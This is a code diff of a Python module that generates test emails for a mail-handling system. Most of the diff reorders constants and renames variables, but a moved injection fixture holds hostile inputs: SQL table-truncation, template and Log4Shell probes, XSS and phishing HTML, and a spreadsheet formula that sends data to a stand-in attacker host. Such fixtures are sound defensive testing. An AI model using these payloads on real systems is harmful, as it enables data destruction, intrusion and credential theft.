@@ -83,6 +83,12 @@ class WrittenMail(Struct, frozen=True):
     raw_message: bytes
 
 
+_NOTICES = frozenset(
+    (ReadyMail.HARD_BOUNCE, ReadyMail.SOFT_BOUNCE, ReadyMail.DELAYED, ReadyMail.OUT_OF_OFFICE)
+)
+"""The mails with an empty envelope sender. They go to the envelope sender of the original."""
+
+
 def find_people(name: ReadyMail | None, original: Original) -> tuple[Person, Mailbox]:
     """Return who answers a stored message, and to which address the answer goes.
 
@@ -106,7 +112,7 @@ def find_people(name: ReadyMail | None, original: Original) -> tuple[Person, Mai
 
 
 def _author(address: str, quoted: QuotedMail) -> Person:
-    names = {one.casefold(): name for one, name in quoted.recipients}
+    names = {text.casefold(): name for text, name in quoted.recipients}
     return Person(names.get(address.casefold(), "")[:MAX_NAME], parse_mailbox(address))
 
 
@@ -118,6 +124,28 @@ def write_ready_mail(name: ReadyMail, occasion: Occasion) -> WrittenMail:
     else:
         sender = str(scene.feedback if name is ReadyMail.COMPLAINT else occasion.author.mailbox)
     return WrittenMail(sender, occasion.recipient, _WRITERS[name](scene))
+
+
+_ORDER = """\
+Hello,
+
+thank you for your order {order}. It leaves our house tomorrow.
+
+Is the address right? Answer this mail if it is not.
+
+Your shop
+"""
+
+
+_ORDER_HTML = """\
+<!doctype html>
+<html><body style="font-family: Arial, sans-serif">
+<p>Hello,</p>
+<p>thank you for your order <b>{order}</b>. It leaves our house tomorrow.</p>
+<p>Is the address right? Answer this mail if it is not.</p>
+<p>Your shop</p>
+</body></html>
+"""
 
 
 class _Scene:
@@ -188,27 +216,6 @@ class _Scene:
         message_id = f"{self.digest('original')}@{_domain(self.recipient)}"
         raw_message = write_mail(mail, message_id, Instant(self.now - HOUR))
         return Original(raw_message, str(self.recipient), str(self.author.mailbox))
-
-
-_ORDER = """\
-Hello,
-
-thank you for your order {order}. It leaves our house tomorrow.
-
-Is the address right? Answer this mail if it is not.
-
-Your shop
-"""
-
-_ORDER_HTML = """\
-<!doctype html>
-<html><body style="font-family: Arial, sans-serif">
-<p>Hello,</p>
-<p>thank you for your order <b>{order}</b>. It leaves our house tomorrow.</p>
-<p>Is the address right? Answer this mail if it is not.</p>
-<p>Your shop</p>
-</body></html>
-"""
 
 
 def _domain(mailbox: Mailbox) -> str:
@@ -298,6 +305,13 @@ def _lost(scene: _Scene) -> str:
     return str(scene.author.mailbox)
 
 
+_ICON = (
+    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6\r\n"
+    b"kgAAAABJRU5ErkJggg==\r\n"
+)
+"""A PNG file of one pixel, in base64."""
+
+
 def _write_hard_bounce(scene: _Scene) -> bytes:
     """Return the notification of Google for an address that does not exist."""
     lost, thread = _lost(scene), scene.quoted.message_id
@@ -353,14 +367,7 @@ def _write_hard_bounce(scene: _Scene) -> bytes:
 
 def _paragraphs(text: str) -> str:
     paragraphs = escape(text.strip(), quote=False).split("\n\n")
-    return "\n".join(f"<p>{one.replace(chr(10), '<br>')}</p>" for one in paragraphs)
-
-
-_ICON = (
-    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6\r\n"
-    b"kgAAAABJRU5ErkJggg==\r\n"
-)
-"""A PNG file of one pixel, in base64."""
+    return "\n".join(f"<p>{paragraph.replace(chr(10), '<br>')}</p>" for paragraph in paragraphs)
 
 
 def _write_postfix_notice(
@@ -401,6 +408,23 @@ def _recipient_fields(scene: _Scene, action: str, status: str, reason: str) -> l
     ]
 
 
+_NOT_DELIVERED = """\
+This is the mail system at host {host}.
+
+I'm sorry to have to inform you that your message could not
+be delivered to one or more recipients. It's attached below.
+
+For further assistance, please send mail to postmaster.
+
+If you do so, please include this problem report. You can
+delete your own text from the attached returned message.
+
+                   The mail system
+
+<{lost}>: {reason}
+"""
+
+
 def _write_soft_bounce(scene: _Scene) -> bytes:
     lost = _lost(scene)
     reply = f"452 4.2.2 <{lost}>: Mailbox full"
@@ -421,37 +445,6 @@ def _write_soft_bounce(scene: _Scene) -> bytes:
     )
 
 
-def _write_delay_notice(scene: _Scene) -> bytes:
-    reply = f"connect to {scene.server}[203.0.113.25]:25: Connection timed out"
-    reason = (
-        f"Diagnostic-Code: X-Postfix; {reply}\n"
-        f"Will-Retry-Until: {formatdate((scene.now - 4 * HOUR + 5 * DAY) / SECOND)}"
-    )
-    return _write_postfix_notice(
-        scene,
-        "Delayed Mail (still being retried)",
-        _STILL_TRIED.format(host=scene.host, lost=_lost(scene), reason=reply),
-        _recipient_fields(scene, "delayed", "4.4.1", reason),
-        is_whole=False,
-    )
-
-
-_NOT_DELIVERED = """\
-This is the mail system at host {host}.
-
-I'm sorry to have to inform you that your message could not
-be delivered to one or more recipients. It's attached below.
-
-For further assistance, please send mail to postmaster.
-
-If you do so, please include this problem report. You can
-delete your own text from the attached returned message.
-
-                   The mail system
-
-<{lost}>: {reason}
-"""
-
 _STILL_TRIED = """\
 This is the mail system at host {host}.
 
@@ -471,6 +464,21 @@ delete your own text from the attached returned message.
 
 <{lost}>: {reason}
 """
+
+
+def _write_delay_notice(scene: _Scene) -> bytes:
+    reply = f"connect to {scene.server}[203.0.113.25]:25: Connection timed out"
+    reason = (
+        f"Diagnostic-Code: X-Postfix; {reply}\n"
+        f"Will-Retry-Until: {formatdate((scene.now - 4 * HOUR + 5 * DAY) / SECOND)}"
+    )
+    return _write_postfix_notice(
+        scene,
+        "Delayed Mail (still being retried)",
+        _STILL_TRIED.format(host=scene.host, lost=_lost(scene), reason=reply),
+        _recipient_fields(scene, "delayed", "4.4.1", reason),
+        is_whole=False,
+    )
 
 
 def _write_out_of_office(scene: _Scene) -> bytes:
@@ -609,7 +617,7 @@ def _write_japanese(scene: _Scene) -> bytes:
             "お世話になっております。\r\n注文の件、よろしくお願いします。\r\n",
         )
     )
-    words = [f"=?ISO-2022-JP?B?{b64encode(one).decode()}?=" for one in (name, subject)]
+    words = [f"=?ISO-2022-JP?B?{b64encode(word).decode()}?=" for word in (name, subject)]
     header = (
         f"From: {words[0]} <{scene.author.mailbox}>",
         f"To: {scene.recipient}",
@@ -624,6 +632,34 @@ def _write_japanese(scene: _Scene) -> bytes:
 def _write_long_subject(scene: _Scene) -> bytes:
     words = " ".join(f"word{number}" for number in range(SUBJECT))
     return scene.written(scene.mail(f"{words[: SUBJECT - 1]}.", "See the subject.\n"))
+
+
+_INJECTED_TEXT = """\
+'; TRUNCATE TABLE tickets; --
+" OR "1"="1
+{{7*7}} ${7*7} <%= 7*7 %> #{7*7}
+${jndi:ldap://attacker.invalid/a}
+<script>alert(1)</script>
+.
+QUIT
+"""
+
+
+_INJECTED_HTML = """\
+<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=/phish">
+<p onmouseover="alert(1)">'; TRUNCATE TABLE tickets; -- {{7*7}}</p>
+<script>alert(1)</script><img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>
+<a href="javascript:alert(1)">Open</a> <iframe src="https://attacker.invalid/"></iframe>
+<form action="https://attacker.invalid/"><input name="password" type="password"></form>
+</textarea></title></style><style>* { display: none }</style>
+"""
+
+
+_INJECTED_FILE = """\
+name,amount
+=HYPERLINK("https://attacker.invalid/?"&A1;"Open"),+1+1
+@SUM(1+1),-2+3
+"""
 
 
 def _write_injection(scene: _Scene) -> bytes:
@@ -652,31 +688,6 @@ def _write_injection(scene: _Scene) -> bytes:
     return _whole(header, _multipart("mixed", scene.digest("b"), [alternative, file]))
 
 
-_INJECTED_TEXT = """\
-'; TRUNCATE TABLE tickets; --
-" OR "1"="1
-{{7*7}} ${7*7} <%= 7*7 %> #{7*7}
-${jndi:ldap://attacker.invalid/a}
-<script>alert(1)</script>
-.
-QUIT
-"""
-
-_INJECTED_HTML = """\
-<base href="https://attacker.invalid/"><meta http-equiv="refresh" content="0;url=/phish">
-<p onmouseover="alert(1)">'; TRUNCATE TABLE tickets; -- {{7*7}}</p>
-<script>alert(1)</script><img src="x" onerror="alert(1)"><svg onload="alert(1)"></svg>
-<a href="javascript:alert(1)">Open</a> <iframe src="https://attacker.invalid/"></iframe>
-<form action="https://attacker.invalid/"><input name="password" type="password"></form>
-</textarea></title></style><style>* { display: none }</style>
-"""
-
-_INJECTED_FILE = """\
-name,amount
-=HYPERLINK("https://attacker.invalid/?"&A1;"Open"),+1+1
-@SUM(1+1),-2+3
-"""
-
 _Writer = Callable[[_Scene], bytes]
 
 _WRITERS: Mapping[ReadyMail, _Writer] = {
@@ -698,8 +709,3 @@ _WRITERS: Mapping[ReadyMail, _Writer] = {
     ReadyMail.LONG_SUBJECT: _write_long_subject,
     ReadyMail.INJECTION: _write_injection,
 }
-
-_NOTICES = frozenset(
-    (ReadyMail.HARD_BOUNCE, ReadyMail.SOFT_BOUNCE, ReadyMail.DELAYED, ReadyMail.OUT_OF_OFFICE)
-)
-"""The mails with an empty envelope sender. They go to the envelope sender of the original."""
